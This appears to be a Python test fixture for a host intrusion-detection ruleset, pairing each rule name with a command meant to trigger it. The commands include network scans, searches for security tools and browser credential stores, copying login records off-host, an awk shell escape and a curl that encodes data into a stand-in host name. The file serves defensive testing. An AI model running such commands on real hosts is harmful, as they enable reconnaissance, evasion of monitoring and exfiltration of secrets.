"""Triggers of mozu's own rules on the host about what tools were given, and what they were led to."""

import re
from typing import Final

from tests.support.triggers import Trigger

OBJECTS_NAMED: Final = (
    ("System file or file in a world-writable directory encrypted", "gpg -c /etc/hosts"),
    ("Whole network or all ports scanned", "nmap 198.51.100.0/24"),
    ("Transient systemd unit that uses a world-writable directory", "systemd-run /tmp/perch"),
    ("Clock or file time set decades back", "date 010100001971"),
    ("Several security services searched for at once", "pgrep falco,wazuh"),
    ("Screen saved in a world-writable directory", "scrot /tmp/perch.png"),
    ("Browser stores searched for on the whole host", "find / -name logins.json"),
    ("Scheduler killed by name", "pkill cron"),
    ("Login records packed or copied by a tool", "scp /var/log/wtmp perch:"),
    ("Program padded with bytes", "truncate -s +1 /tmp/perch"),
    ("Data encoded in a host name", "curl MTExLTExLTExMTE=.perch.example"),
)
"""Rules, each with a command whose name and arguments are enough."""

OBJECTS: Final = (
    Trigger(
        "Command-line code that packs or sends accounts or keys",
        "python3",
        ("$PYTHON", "-c", "import gzip; '/etc/passwd'"),
    ),
    Trigger(
        "Raw network packets read by a program in a world-writable directory",
        "perch-raw",
        (
            *("unshare", "--mount", "sh", "-c"),
            "cp $(perl -e 'print $^X') /tmp/perch-raw; /tmp/perch-raw -e 'socket(S, 17, 3, 768)'; rm /tmp/perch-raw",
        ),
        {"proc.exepath": "/tmp/perch-raw"},
    ),
    Trigger(
        "System directory served to the network by hand",
        "python3",
        "cd /tmp; $PYTHON -m http.server --help; true",
        {"proc.cwd": "/tmp/"},
    ),
    Trigger(
        "List of users saved in a world-writable directory",
        "cat",
        "cat /etc/passwd > /tmp/mozu-perch; rm /tmp/mozu-perch",
    ),
    Trigger(
        "Shell named in the code of another tool",
        re.compile("awk"),
        ("awk", 'BEGIN {exit; system("sh")}'),
    ),
    Trigger(
        "Command-line code that connects and starts programs",
        "python3",
        ("$PYTHON", "-c", "import socket, subprocess; subprocess.DEVNULL"),
    ),
    Trigger(
        "Several makers of virtual machines searched for at once",
        "grep",
        "true | grep -i 'vmware\\|vbox'; true",
    ),
    Trigger(
        "Python start-up hook written by a shell",
        re.compile("^(da)?sh$"),
        "mkdir -p $TMP/site-packages; : > $TMP/site-packages/perch.pth",
    ),
    Trigger(
        "Set-group-ID bit set in a world-writable directory",
        "chmod",
        "touch /tmp/mozu-perch; chmod 2755 /tmp/mozu-perch; rm /tmp/mozu-perch",
        {"evt.arg.mode": re.compile("S_ISGID")},
    ),
)
